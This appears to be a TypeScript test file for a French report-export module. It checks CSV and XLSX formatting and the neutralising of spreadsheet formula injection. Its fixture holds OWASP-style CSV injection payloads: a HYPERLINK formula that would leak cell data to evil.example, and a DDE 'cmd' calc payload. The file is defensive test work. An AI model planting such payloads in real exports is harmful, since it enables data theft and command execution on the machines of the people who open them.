import readXlsxFile from 'read-excel-file/universal';
import { type ReportTable, SUPPRESSED } from './report-table';
import { sheetNames, slug, tablesToCsv, xlsxBlob } from './table-export';

const BY_STATUS: ReportTable = {
  id: 'dossiers-statut',
  title: 'Dossiers au 31/12/2025, par statut',
  sheetName: 'Dossiers par statut',
  columns: [
    { header: 'Statut', kind: 'text' },
    { header: 'Dossiers', kind: 'count' },
  ],
  rows: [
    ['Enregistrée', 1234],
    ['À renouveler', SUPPRESSED],
    ['Contact; « premier »', 0],
    ['Total', 1240],
  ],
};

const RECEPTION: ReportTable = {
  id: 'accueil',
  title: 'Accueil sous un mois',
  sheetName: 'Accueil sous un mois',
  columns: [
    { header: 'Périmètre', kind: 'text' },
    { header: 'Part reçue dans le mois', kind: 'share' },
    { header: 'Retard médian (jours)', kind: 'days' },
    { header: 'Demandée le', kind: 'date' },
  ],
  rows: [
    ['Territoire', 0.853, 12.5, '2026-03-01'],
    ['Mairie de "Lagor"', SUPPRESSED, null, '2026-04-15'],
  ],
};

/** Names a coordinator or a partner typed, made to run in a spreadsheet (OWASP, CSV injection). */
const HOSTILE: ReportTable = {
  id: 'hostile',
  title: '=HYPERLINK("http://evil.example/?"&A3;"Cliquez")',
  sheetName: 'Orientations',
  columns: [
    { header: "@SUM(1+1)*cmd|' /C calc'!A0", kind: 'text' },
    { header: 'Écart', kind: 'count' },
    { header: 'Délai (jours)', kind: 'days' },
  ],
  rows: [
    ['=1+1', -3, -12.5],
    ['+33 5 59 00 00 00', 0, 4],
    ['-2+3', 12, null],
    ['@Mairie', -1240, -0.5],
    ['\tTabulée', 1, 1],
    ['\rRetour', 1, 1],
    ['Mairie de Lagor, =1+1', 2, 2],
    ['Trait-d’union au milieu - ok', 3, 3],
  ],
};

/** Reads a Blob in jsdom, which lacks `Blob.arrayBuffer()`. */
function arrayBufferOf(blob: Blob): Promise<ArrayBuffer> {
  return new Promise((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(reader.result as ArrayBuffer);
    reader.onerror = () => reject(reader.error);
    reader.readAsArrayBuffer(blob);
  });
}

describe('CSV for French Excel', () => {
  it('starts with a byte-order mark, separates with semicolons, ends lines with CRLF', () => {
    const csv = tablesToCsv([BY_STATUS]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Statut;Dossiers',
      'Enregistrée;1234',
      'À renouveler;moins de 5 cas',
      '"Contact; « premier »";0',
      'Total;1240',
      '',
    ]);
  });

  it('writes shares as percentages with a decimal comma, days with a decimal comma, dates the French way', () => {
    const lines = tablesToCsv([RECEPTION]).slice(1).split('\r\n');
    expect(lines[0]).toBe('Périmètre;Part reçue dans le mois (%);Retard médian (jours);Demandée le');
    expect(lines[1]).toBe('Territoire;85,3;12,5;01/03/2026');
    expect(lines[2]).toBe('"Mairie de ""Lagor""";moins de 5 cas;;15/04/2026');
  });

  it('puts every table under its title, after the heading, a blank line between them', () => {
    const lines = tablesToCsv([BY_STATUS, RECEPTION], 'Pilotage du 1er janvier 2025 au 31 décembre 2025')
      .slice(1)
      .split('\r\n');
    expect(lines.slice(0, 4)).toEqual([
      'Pilotage du 1er janvier 2025 au 31 décembre 2025',
      '',
      // Quoted for its comma: a spreadsheet set to split on commas keeps it one cell.
      '"Dossiers au 31/12/2025, par statut"',
      'Statut;Dossiers',
    ]);
    expect(lines).toContain('Accueil sous un mois');
    expect(lines[lines.indexOf('Accueil sous un mois') - 1]).toBe('');
  });
});

describe('cells a spreadsheet would run', () => {
  it('are written as text in the CSV, with an apostrophe first; numbers, negative ones too, stay numbers', () => {
    const lines = tablesToCsv([HOSTILE], '-période').slice(1).split('\r\n');
    expect(lines).toEqual([
      "'-période",
      '',
      `"'=HYPERLINK(""http://evil.example/?""&A3;""Cliquez"")"`,
      `'@SUM(1+1)*cmd|' /C calc'!A0;Écart;Délai (jours)`,
      "'=1+1;-3;-12,5",
      "'+33 5 59 00 00 00;0;4",
      "'-2+3;12;",
      "'@Mairie;-1240;-0,5",
      `"'\tTabulée";1;1`,
      `"'\rRetour";1;1`,
      '"Mairie de Lagor, =1+1";2;2',
      'Trait-d’union au milieu - ok;3;3',
      '',
    ]);
  });

  it('are written as text in the XLSX, with an apostrophe first; numbers, negative ones too, stay numbers', async () => {
    const sheets = await readXlsxFile(await arrayBufferOf(await xlsxBlob([HOSTILE], '+2025')));
    const data = sheets[0]?.data ?? [];
    expect(data[0]?.[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A3;"Cliquez") — +2025`);
    expect(data[1]).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0", 'Écart', 'Délai (jours)']);
    expect(data.slice(2).map((row) => row[0])).toEqual([
      "'=1+1",
      "'+33 5 59 00 00 00",
      "'-2+3",
      "'@Mairie",
      "'\tTabulée",
      "'\rRetour",
      'Mairie de Lagor, =1+1',
      'Trait-d’union au milieu - ok',
    ]);
    expect(data.slice(2, 6).map((row) => row.slice(1))).toEqual([
      [-3, -12.5],
      [0, 4],
      [12, '—'],
      [-1240, -0.5],
    ]);
  });
});

describe('XLSX', () => {
  it('writes one sheet per table, read back cell by cell', async () => {
    const blob = await xlsxBlob([BY_STATUS, RECEPTION], 'année 2025');
    const sheets = await readXlsxFile(await arrayBufferOf(blob));

    expect(sheets.map((sheet) => sheet.sheet)).toEqual(['Dossiers par statut', 'Accueil sous un mois']);
    const [statuses, reception] = sheets.map((sheet) => sheet.data);
    expect(statuses?.[0]?.[0]).toBe('Dossiers au 31/12/2025, par statut — année 2025');
    expect(statuses?.[1]).toEqual(['Statut', 'Dossiers']);
    expect(statuses?.[2]).toEqual(['Enregistrée', 1234]);
    expect(statuses?.[3]).toEqual(['À renouveler', 'moins de 5 cas']);
    expect(statuses?.[4]).toEqual(['Contact; « premier »', 0]);
    expect(statuses?.[5]).toEqual(['Total', 1240]);

    expect(reception?.[1]).toEqual([
      'Périmètre',
      'Part reçue dans le mois',
      'Retard médian (jours)',
      'Demandée le',
    ]);
    expect(reception?.[2]).toEqual(['Territoire', 0.853, 12.5, '01/03/2026']);
    expect(reception?.[3]).toEqual(['Mairie de "Lagor"', 'moins de 5 cas', '—', '15/04/2026']);
  });

  it('keeps sheet names short, legal and unique', () => {
    const long = { ...BY_STATUS, sheetName: 'Orientations par organisation d’origine / destination' };
    expect(sheetNames([long, long, { ...BY_STATUS, sheetName: 'a:b' }])).toEqual([
      'Orientations par organisation d',
      'Orientations par organisati (2)',
      'a b',
    ]);
  });
});

describe('file names', () => {
  it('are plain ASCII words joined by hyphens', () => {
    expect(slug("Dossiers par point d'entrée — Territoire")).toBe('dossiers-par-point-d-entree-territoire');
  });
});
